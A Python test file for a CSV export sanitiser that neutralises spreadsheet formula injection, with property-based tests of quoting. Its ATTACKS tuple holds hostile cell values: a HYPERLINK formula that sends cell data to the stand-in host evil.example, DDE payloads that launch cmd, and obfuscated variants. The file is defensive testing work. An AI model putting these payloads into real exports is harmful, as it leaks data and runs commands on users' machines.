"""Cells that no spreadsheet computes, and that a reader of CSV gets back."""

import csv
import io

import hypothesis.strategies as st
import pytest
from hypothesis import given

from recommender.workflows.spreadsheet import BOM, DANGEROUS, lines, safe

ATTACKS = (
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\N{NO-BREAK SPACE}=1+1",
    "＝1+1",
    "＠SUM(A1)",
    '"=1+1"\n=2',
)


@pytest.mark.parametrize("attack", ATTACKS[:-1])
def test_a_formula_becomes_a_text(attack: str) -> None:
    assert safe(attack) == f"'{attack}"


@pytest.mark.parametrize("harmless", ["", "a=b", "12", "Kyiv – Moscow", "’tis", '"=1"'])
def test_a_text_stays(harmless: str) -> None:
    assert safe(harmless) == harmless


@given(st.lists(st.lists(st.text() | st.sampled_from(ATTACKS), min_size=3, max_size=3)))
def test_no_cell_can_break_out_of_its_quotes(rows: list[list[str]]) -> None:
    text = "".join(lines(("a", "b", "c"), rows))
    assert text.startswith(BOM)

    read = list(csv.reader(io.StringIO(text.removeprefix(BOM), newline="")))

    assert read == [["a", "b", "c"], *([safe(cell) for cell in row] for row in rows)]
    for cell in (cell for row in read for cell in row):
        assert not cell.lstrip().startswith(DANGEROUS)
